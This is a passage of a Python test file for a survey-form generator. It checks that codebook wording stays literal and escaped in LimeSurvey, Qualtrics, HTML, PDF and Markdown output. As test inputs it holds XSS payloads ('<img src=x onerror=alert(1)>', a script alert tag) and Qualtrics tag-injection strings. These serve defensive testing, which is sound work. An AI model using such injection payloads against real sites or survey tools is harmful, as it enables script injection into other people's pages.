    assert "{" not in text and len(records) == text.count("\n")
    for lang in ("nl", "en"):
        questions = survey.questions(lang)
        # exactly the questions of the same codebook without the hostile wording
        assert [(q.type, q.code, [c for c, _ in q.subquestions], [c for c, _ in q.answers])
                for q in questions] == [
            (q.type, q.code, [c for c, _ in q.subquestions], [c for c, _ in q.answers])
            for q in plain.questions("en")
        ]  # fmt: skip
        # each text shows, rendered as LimeSurvey renders HTML, as the codebook words it
        expected = shown[lang]
        title = survey.language_settings[lang]["surveyls_title"]
        assert html.unescape(title) == expected["title"]
        usage, segment, *grids = questions
        assert html.unescape(usage.text) == expected["usage"]
        assert html.unescape(segment.text) == expected["segment"]
        assert html.unescape(segment.answers[2][1]) == expected["office"]
        statements = [html.unescape(t) for g in grids for _, t in g.subquestions]
        assert statements == expected["statements"]


def test_hostile_wording_reads_as_text_in_qualtrics(cli, tmp_path):
    import html

    path, _, shown = hostile_codebook(tmp_path)
    plain = I.parse_qualtrics(written(cli, "--codebook", ZORG, "--format", "qualtrics"))
    for lang in ("nl", "en"):
        data = written(cli, "--codebook", path, "--format", "qualtrics", "--lang", lang)
        text = data.decode("utf-8")
        # a tag only on a line of its own; no text starts a tag, a formula or piped text
        questions = I.parse_qualtrics(data)
        lines = text.split("\n")
        assert all(line.startswith("[[") == bool(I._TAG.match(line)) for line in lines)
        assert sum("[[" in line for line in lines) == sum(bool(I._TAG.match(x)) for x in lines)
        assert_no_formula(lines)
        assert "${" not in text
        assert {tag for tag in re.findall(r"<(\w+)", text)} == {"br"}  # the intro's own
        # exactly the questions of the same codebook without the hostile wording
        assert [(q.type, q.id, [n for n, _ in q.choices], [n for n, _ in q.answers])
                for q in questions] == [
            (q.type, q.id, [n for n, _ in q.choices], [n for n, _ in q.answers]) for q in plain
        ]  # fmt: skip
        expected = shown[lang]
        usage, segment, *grids = questions[1:-1]
        assert html.unescape(usage.text) == expected["usage"]
        assert html.unescape(segment.text) == expected["segment"]
        assert html.unescape(segment.choices[2][1]) == expected["office"]
        statements = [html.unescape(t) for g in grids for _, t in g.choices]
        assert statements == expected["statements"]


@pytest.mark.parametrize("tool", ["limesurvey", "qualtrics"])
def test_hostile_wording_still_reads_back_with_no_mapping(cli, tmp_path, tool):
    """The escaped wording still names the export's columns: the answers read back."""
    path, book, _ = hostile_codebook(tmp_path)
    group = X.people(codebook=book)
    labels = tuple(o.label("en") for o in book.segment("afdeling").options)
    if tool == "limesurvey":
        data = written(cli, "--codebook", path, "--format", tool, "--lang", "nl,en")
        survey = I.parse_limesurvey(data)
        export = I.limesurvey_export(
            tmp_path / "export.csv", survey, book, group, lang="en", full=True
        )
    else:
        questions = I.parse_qualtrics(written(cli, "--codebook", path, "--format", tool))
        export = I.qualtrics_export(tmp_path / "export.csv", questions, book, group, numeric=False)
    read = load_survey(export, book, ["afdeling"])
    reference = X.tidy(
        tmp_path / "reference.csv", group, codebook=book, segment="afdeling", departments=labels
    )
    assert_same_survey(read, load_survey(reference, book, ["afdeling"]), segment="afdeling")
    assert "11 of 11 items matched" in str(read.source.summary())


def test_hostile_wording_stays_literal_on_paper(cli, tmp_path):
    path, _, shown = hostile_codebook(tmp_path)
    data = written(cli, "--codebook", path, "--format", "html", "--lang", "nl,en")

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags = set()

        def handle_starttag(self, tag, attrs):
            self.tags.add(tag)

    tags = Tags()
    tags.feed(data.decode("utf-8"))
    assert not tags.tags & {"img", "script", "b", "i"}
    text = page(data).text
    for lang in ("nl", "en"):
        expected = shown[lang]
        for wording in (expected["usage"], expected["segment"], *expected["statements"]):
            assert any(wording in line for line in text), wording
    result = cli("questionnaire", "--codebook", path, "--lang", "en", "-o", "form.pdf")
    assert result.exit_code == 0, result.stderr
    flat = " ".join(
        subprocess.run(
            ["pdftotext", tmp_path / "form.pdf", "-"], capture_output=True, text=True, check=True
        ).stdout.split()
    )
    for hostile in ("<img src=x onerror=alert(1)>", "<script>alert('x')</script>", "[[Block]]"):
        assert hostile in flat


def test_hostile_wording_stays_literal_in_markdown_and_the_key(cli, tmp_path):
    path, _, shown = hostile_codebook(tmp_path)
    result = cli(
        "questionnaire", "--codebook", path, "--lang", "nl,en", "-o", "f.md", "--key", "k.md"
    )
    assert result.exit_code == 0, result.stderr
    form = (tmp_path / "f.md").read_text(encoding="utf-8")
    key = (tmp_path / "k.md").read_text(encoding="utf-8")
    for text in (form, key):
        # a tag or an entity a Markdown renderer would obey is escaped; no text breaks a line
        assert not re.search(r"<(img|script|b|i)\b", text)
        assert "&lt;img src=x onerror=alert(1)>" in text
        assert "&lt;script>alert('x')&lt;/script>" in text
        assert "R&D &amp;amp; co" in text
    for version, lang in zip(form.split("\n---\n"), ("nl", "en"), strict=True):
        headings = re.findall(r"^(#+) ", version, re.M)
        assert headings == ["#"] + ["##"] * 6  # the title, 2 questions, 4 grids
        # each statement is one line that reads, its escapes undone, as the codebook's
        lines = dict(re.findall(r"^(\d+)\. (.*)$", version, re.M))
        for number, statement in enumerate(shown[lang]["statements"], start=3):
            line = lines[str(number)].replace("\\|", "|").replace("&lt;", "<")
            assert line.replace("&amp;", "&") == statement
    # each row of the key's statements table is one line of five cells
    rows = [line for line in key.splitlines() if re.match(r"^\| \d+ \| \w+ \|", line)]
    assert len(rows) == 2 + 11
    assert all(len(re.findall(r"(?<!\\)\|", row)) == (5 if n < 2 else 6) for n, row in
               enumerate(rows))  # fmt: skip
    assert "| 3 | nut1 | =Nut \\| &lt;b> |" in key


def test_a_qualtrics_id_never_ends_its_tag_or_starts_another(cli, tmp_path):
    text = ZORG.read_text(encoding="utf-8")
    old = "  column: gebruikt\n  aliases: [uses]\n"
    assert old in text
    (tmp_path / "own.yaml").write_text(
        text.replace(old, '  column: "gebruikt]] [[Block]]"\n'), encoding="utf-8"
    )
    data = written(cli, "--codebook", "own.yaml", "--format", "qualtrics")
    questions = I.parse_qualtrics(data)
    assert [q.id for q in questions][:2] == ["intro", "gebruikt Block"]
    assert b"\n[[ID:gebruikt Block]]\n" in data
